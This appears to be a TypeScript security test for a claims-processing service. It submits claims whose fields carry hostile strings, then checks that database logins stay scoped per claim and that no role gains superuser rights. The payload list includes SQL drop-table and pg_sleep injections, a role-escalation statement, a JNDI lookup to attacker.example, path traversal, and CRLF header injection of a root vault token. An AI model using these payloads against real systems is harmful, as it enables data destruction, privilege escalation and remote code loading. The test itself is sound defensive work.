import { asSuperuser, loadSamplePlans, plainClaim, serverLogOf, submitPlain, untilSettled } from '#testing';

/** Claims whose fields would be SQL, login names, paths or templates, if anything took them for that. */

beforeAll(loadSamplePlans);

const hostile = [
  `'; drop table claims.claim; --`,
  `x" IN ROLE "vouch_owner`,
  `act.01ARZ3NDEKTSV4RRFFQ69G5FAV.aaaaaaaa`,
  `{{ .RoleName }}{{name}}{{password}}`,
  `\${jndi:ldap://attacker.example/a}`,
  `../../v1/sys/seal`,
  `*/ ; select pg_sleep(60) /*`,
  `line\r\nx-vault-token: root`,
  `$$; alter role intake superuser; $$`,
  `%00\u0001\u202e`,
];

const logins = `select rolname, rolsuper, rolcreaterole from pg_roles where rolsuper or rolcreaterole order by 1`;

async function powerful(): Promise<unknown> {
  return (await asSuperuser((client) => client.query(logins))).rows;
}

test('they are decided like any others, by logins that are named after ids of our own', async () => {
  const before = await powerful();
  const claims = hostile.map((text, index) => {
    const claim = plainClaim({ member: `${text} ${index}` });
    return {
      ...claim,
      claimId: `${text} ${claim.claimId}`.slice(0, 100),
      provider: { npi: '1900000021', name: text },
      payer: { name: text },
      note: text,
      lines: claim.lines.map((line) => ({ ...line, description: text })),
    };
  });
  const accepted = await Promise.all(claims.map(async (claim) => submitPlain(claim)));
  const ids = accepted.map(({ claimId }) => claimId);
  await untilSettled(ids);

  const users = new Set<string>();
  for (const claimId of ids) {
    expect(claimId).toMatch(/^[0-9A-HJKMNP-TV-Z]{26}$/);
    for (const { user = '' } of serverLogOf(claimId)) users.add(user.replace(claimId, '<claim>'));
  }
  expect([...users].map((user) => user.replace(/[.][a-z0-9]{8}$/, '.<random>')).toSorted()).toEqual(
    expect.arrayContaining(['act.<claim>.<random>', 'analyze.<claim>.<random>', 'gather.<claim>.<random>']),
  );
  for (const user of users) expect(user).toMatch(/^(gather|analyze|act)[.]<claim>[.][a-z0-9]{8}$/);
  expect(await powerful()).toEqual(before);
});
